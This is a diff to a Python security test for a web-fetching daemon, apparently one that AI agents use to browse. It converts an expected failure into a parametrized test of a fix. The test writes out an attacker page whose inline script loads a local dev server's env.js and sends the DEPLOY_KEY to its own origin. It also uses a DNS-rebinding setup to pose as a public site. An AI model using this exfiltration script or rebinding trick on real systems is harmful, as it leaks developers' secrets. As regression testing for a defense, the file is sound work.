@@ -5,26 +5,29 @@ its own host (userinfo naming the private origin, a trailing dot, IPv4-mapped IP
 the private host, the attacker named inside a URL of the private origin) and a redirect hop the private origin
 itself answers with: none of them reaches the attacker's server.
 
-Open (``xfail(strict=True)``): a headless page reads a local service *itself*, inside the agent's call, and sends
-what it read to its own origin. The exit rule judges the session as it was when the call began (clean), and a
-page's requests to the origin of its own document are free; the session is tainted only once the call's result is
-observed, after the data left.
+Sent before, fixed: a headless page read a local service *itself*, inside the agent's call, and sent what it read
+to its own origin. The exit rule judged the session as it was when the call began (clean), and a page's requests
+to the origin of its own document are free; the session was tainted only once the call's result was observed,
+after the data left. A page at a public address may no longer reach a loopback or private one.
 """
 
 from __future__ import annotations
 
 import json
+import socket
 from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
 from aiohttp import web
 from trawl.server.runner import RunningDaemon
+from trawl.sources.http import HttpSource
+from trawl.sources.playwright import PlaywrightSource
 
 from tests.integration.test_daemon_helpers import daemon_settings
 from tests.security.test_exits import TOKEN, Server, fetch, page, serve
 from tests.security.test_exits import attacker as attacker  # the fixture
-from tests.security.test_private_hosts import v1_fetch
+from tests.security.test_private_hosts import Rebinding, v1_fetch
 
 FILLER = "The harbour office lists the ferry times to the outer islands for every day of the week."
 
@@ -93,18 +96,15 @@ async def dev_server() -> AsyncIterator[Server]:
     await runner.cleanup()
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason=(
-        "open: a headless page's own read of a local service inside the agent's call does not taint the session "
-        "until the call's result is observed, and the page's requests to its own document's origin are free, so "
-        "what it read leaves to that origin in the same call"
-    ),
-)
-async def test_a_headless_page_that_reads_a_local_service_cannot_send_it_to_its_own_origin(
-    tmp_path: Path, chromium: str, dev_server: Server
+@pytest.mark.parametrize("doc", ["public", "local"])
+async def test_a_public_headless_page_cannot_read_a_local_service_and_send_it_home(
+    tmp_path: Path, chromium: str, dev_server: Server, monkeypatch: pytest.MonkeyPatch, doc: str
 ) -> None:
+    """Sent before: in a session that had read nothing, the agent opened the attacker's page; its script included
+    the dev server's ``/env.js`` and fetched ``/c?k=<the secret>`` from its own origin, in the same call (the exit
+    rule judged the session clean, and a page's own origin is free). Now a page at a public address may not reach
+    a loopback or private address at all. ``local``: the same page at a loopback address (a local front end and its
+    local API) still includes the script, so the attack is mounted for real."""
     hits: list[str] = []
     script = f"""<script src="{dev_server.url}/env.js"></script><script>
       fetch('/c?k=' + encodeURIComponent(String(window.DEPLOY_KEY)))
@@ -118,25 +118,36 @@ async def test_a_headless_page_that_reads_a_local_service_cannot_send_it_to_its_
             return web.Response(text="the collector answered")
         return web.Response(text=page("Harbour", f"<p id=out></p>{script}"), content_type="text/html")
 
-    # The attacker's page: another loopback address (a public site in real life), default private-host setting.
+    # The attacker's page listens on 127.0.0.2. "public": a name trawl's resolver places on the internet while
+    # Chromium's reaches 127.0.0.2 (a public site, as far as every check can tell); "local": the address itself.
+    monkeypatch.setattr(socket, "getaddrinfo", Rebinding([["93.184.215.14"]]))
     app = web.Application()
     app.router.add_get("/{tail:.*}", handle)
     runner = web.AppRunner(app, access_log=None)
     await runner.setup()
-    site = web.TCPSite(runner, "127.0.0.2", 0)
-    await site.start()
+    await web.TCPSite(runner, "127.0.0.2", 0).start()
     port = int(runner.addresses[0][1])
     settings = daemon_settings(
         tmp_path, chromium_path=chromium, render_empty_wait_s=40.0, render_timeout_s=50.0, request_timeout_s=90.0
     )
+    sources = [
+        HttpSource(settings),
+        PlaywrightSource(settings, extra_args=("--host-resolver-rules=MAP rebind.test 127.0.0.2",)),
+    ]
+    host = "rebind.test" if doc == "public" else "127.0.0.2"
     try:
-        async with RunningDaemon(settings, warm=False) as d:
-            body = await v1_fetch(d, f"http://127.0.0.2:{port}/harbour", query="", source="playwright")
+        async with RunningDaemon(settings, sources=sources, warm=False) as d:
+            body = await v1_fetch(d, f"http://{host}:{port}/harbour", query="", source="playwright")
     finally:
         await runner.cleanup()
-    # The attack ran to its end (the page wrote what its collector answered) ...
+    # The page's script ran to its end (it wrote what its own origin answered).
     assert body["ok"] is True and "collector answered" in str(body["chunks"]), body
-    assert any(h.startswith("/env.js") for h in dev_server.hits), dev_server.hits
-    # ... and the secret the page read from the local service must not have reached the page's own origin.
     sent = [h for h in hits if h.startswith("/c")]
-    assert sent and not any(TOKEN in h for h in sent), f"the page's origin received {sent}"
+    assert sent, hits
+    if doc == "public":
+        assert dev_server.hits == [], dev_server.hits  # never asked
+        assert not any(TOKEN in h for h in sent), f"the page's origin received {sent}"
+        assert any("private-network rule" in w for w in body["warnings"]), body["warnings"]
+    else:
+        assert any(h.startswith("/env.js") for h in dev_server.hits), dev_server.hits
+        assert any(TOKEN in h for h in sent), sent
